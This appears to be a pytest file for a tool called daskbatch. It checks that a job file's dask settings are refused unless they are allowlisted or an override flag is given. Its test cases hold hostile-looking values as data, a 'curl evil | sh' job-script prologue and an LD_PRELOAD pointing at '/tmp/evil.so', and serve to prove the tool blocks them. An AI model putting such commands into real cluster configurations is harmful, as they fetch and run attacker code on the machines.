"""A job file's ``dask:`` mapping obeys the allowlist of ``describe --config``; ``run --allow-dask-config`` lifts it.

``daskbatch run JOB.yaml`` used to put the mapping straight into
``dask.config.set``: a worker ``preload`` in a job file ran Python on the
workers and the job exited 0, while ``describe --config`` refused the same mapping.
"""

from __future__ import annotations

import copy
import pathlib
from collections.abc import Iterator

import dask.config
import pytest
import yaml
from click.testing import CliRunner

from daskbatch.cli import main
from daskbatch.jobs.run import run_job
from daskbatch.jobs.spec import UnsafeDaskSetting


@pytest.fixture(autouse=True)
def restore_dask_config() -> Iterator[None]:
    import distributed  # noqa: F401 - its defaults join dask.config on import: snapshot them too

    saved = copy.deepcopy(dask.config.config)
    yield
    dask.config.config.clear()
    dask.config.config.update(saved)


def job_file(tmp_path: pathlib.Path, store: pathlib.Path, settings: dict, kind: str = "threads") -> pathlib.Path:
    job = {"input": {"store": str(store), "label": "y"}, "statistics": {"stats": "moments"},
           "selection": {"score": "variance", "param": 2}, "transform": {"steps": []},
           "cluster": {"kind": kind, "n_workers": 1, "threads": 1}, "memory": "1GiB",
           "outputs": {"dir": str(tmp_path / "out")}}
    path = tmp_path / "job.yaml"
    # The dask settings sit at the top of the file, beside daskbatch (a daskbatch one merges into it).
    top = {**settings, "daskbatch": {**settings.get("daskbatch", {}), "job": job}}
    path.write_text(yaml.safe_dump(top))
    return path


def test_worker_preload_in_a_job_file_is_refused_and_runs_nothing(
    tmp_path: pathlib.Path, store: pathlib.Path
) -> None:
    flag = tmp_path / "ran"
    code = f"import pathlib; pathlib.Path({str(flag)!r}).touch()"
    job = job_file(tmp_path, store, {"distributed": {"worker": {"preload": [code]}}}, kind="local")
    result = CliRunner().invoke(main, ["run", str(job)])
    assert result.exit_code == 2, result.output
    err = result.stderr.strip()
    assert err.startswith("error: ") and "\n" not in err, err
    assert "distributed.worker.preload" in err and "--allow-dask-config" in err and str(job) in err
    assert not flag.exists()
    assert not (tmp_path / "out").exists()  # refused before anything is written, the report included


@pytest.mark.parametrize(("settings", "key"), [
    ({"distributed": {"scheduler": {"preload": ["x"]}}}, "distributed.scheduler.preload"),
    ({"distributed": {"nanny": {"environ": {"LD_PRELOAD": "/tmp/evil.so"}}}}, "distributed.nanny.environ.LD_PRELOAD"),
    ({"distributed": {"logging": {"version": 1}}}, "distributed.logging.version"),
    ({"jobqueue": {"slurm": {"job-script-prologue": ["curl evil | sh"]}}}, "jobqueue.slurm.job-script-prologue"),
])
def test_the_api_refuses_the_same_keys_as_describe_config(
    tmp_path: pathlib.Path, store: pathlib.Path, settings: dict, key: str
) -> None:
    job = job_file(tmp_path, store, {"distributed": {"worker": {"memory": {"target": 0.31}}}, **settings})
    with pytest.raises(UnsafeDaskSetting, match=key.replace(".", r"\.")):
        run_job(job)
    assert dask.config.get("distributed.worker.memory.target", None) != 0.31
    assert not (tmp_path / "out").exists()


def test_safe_settings_apply_and_the_flag_accepts_the_rest(tmp_path: pathlib.Path, store: pathlib.Path) -> None:
    # A setting off the list (harmless here) is refused without the flag, accepted with it.
    job = job_file(tmp_path, store, {"daskbatch": {"split-every": 3}, "distributed": {"admin": {"tick": {
        "interval": "21ms"}}}})
    refused = CliRunner().invoke(main, ["run", str(job)])
    assert refused.exit_code == 2 and "distributed.admin.tick.interval" in refused.stderr, refused.output
    accepted = CliRunner().invoke(main, ["run", str(job), "--allow-dask-config"])
    assert accepted.exit_code == 0, accepted.output
    assert (tmp_path / "out" / "report.json").exists()
